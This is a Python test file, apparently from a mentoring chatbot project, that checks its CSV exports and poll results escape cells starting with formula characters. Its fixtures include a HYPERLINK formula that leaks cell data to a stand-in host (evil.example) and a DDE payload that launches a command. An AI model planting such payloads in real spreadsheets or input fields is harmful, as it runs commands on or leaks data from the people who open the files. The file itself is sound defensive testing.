"""Exports are safe to open: no cell of any CSV Maatje writes — the coordinator's export, poll
results, `maatje export` — starts with `=`, `+`, `-`, `@`, a tab or a carriage return, so a
spreadsheet shows what people typed instead of running it (OWASP: CSV injection)."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from datetime import date
from pathlib import Path

from sqlmodel import select

from bot.domain import Goal, Person
from bot.testing import Conversation
from tests.meeting_support import make_pair
from tests.test_polls import answer, mentees  # noqa: F401 (a fixture)

ROOT = Path(__file__).resolve().parent.parent
GOAL = '=HYPERLINK("http://evil.example/?"&A1,"Click for your grade")'
NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
TYPED = ("=1+1", "+31 6 1234", "-2+3", "@me", "plain words")
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def assert_inert(content: bytes, *typed: str) -> None:
    found = cells(content)
    assert [c for c in found if c.startswith(DANGEROUS)] == []
    for text in typed:  # still there, readable, as text
        assert f"'{text}" in found, (text, found)


async def test_the_coordinators_export_is_safe_to_open(app, chat: Conversation, clock, tmp_path):
    await chat.send("cora", "hello")
    with app.store.session() as session:
        pair = make_pair(session, clock.now())
        mentee = session.get(Person, pair.mentee_id)
        mentee.display_name = NAME  # as the platform reports it
        session.add(mentee)
        session.add(
            Goal(
                pair_id=pair.id,
                mentee_id=pair.mentee_id,
                what=GOAL,
                measure="-",
                confidence=4,
                why="x",
                due=date(2026, 12, 1),
                created_at=clock.now(),
                updated_at=clock.now(),
            )
        )
    await chat.command("cora", "export")
    files = {f.filename: f.content for f in chat.last_message("cora").files}
    assert_inert(files["test-pairs.csv"], NAME)
    assert_inert(files["test-goals.csv"], NAME, GOAL)
    for content in files.values():
        assert_inert(content)

    env = {
        "PATH": "/usr/bin:/bin",
        "PYTHONPATH": str(ROOT),
        "DATABASE_URL": app.config.database_url,
    }
    done = subprocess.run(
        [sys.executable, "-m", "bot.cli", "export", "test", "--out", str(tmp_path / "out")],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr
    assert_inert((tmp_path / "out" / "test-goals.csv").read_bytes(), NAME, GOAL)
    for written in (tmp_path / "out").iterdir():
        assert_inert(written.read_bytes())


async def test_poll_results_are_safe_to_open(app, chat: Conversation, mentees):  # noqa: F811
    with app.store.session() as session:
        anna = session.exec(select(Person).where(Person.id == mentees["anna"])).one()
        anna.display_name = NAME
        session.add(anna)
    await chat.command("cora", "poll", "send", "midterm", "to", "all")
    for index, (who, typed) in enumerate(
        zip(("anna", "bram", "chris", "dana"), TYPED, strict=False)
    ):
        await answer(chat, who, [str(index + 2), "4", "3", "1,3", typed])
    await chat.click("eli", "1")
    await answer(chat, "eli", ["6", "2", "3", "-", TYPED[-1]])
    await chat.command("cora", "poll", "results", "midterm")
    files = {f.filename: f.content for f in chat.last_message("cora").files}
    responses = files["poll-1-midterm-responses.csv"]
    assert_inert(responses, NAME, *TYPED[:-1])
    assert TYPED[-1] in cells(responses)  # harmless text is left as it is
    assert_inert(files["poll-1-midterm-summary.csv"])
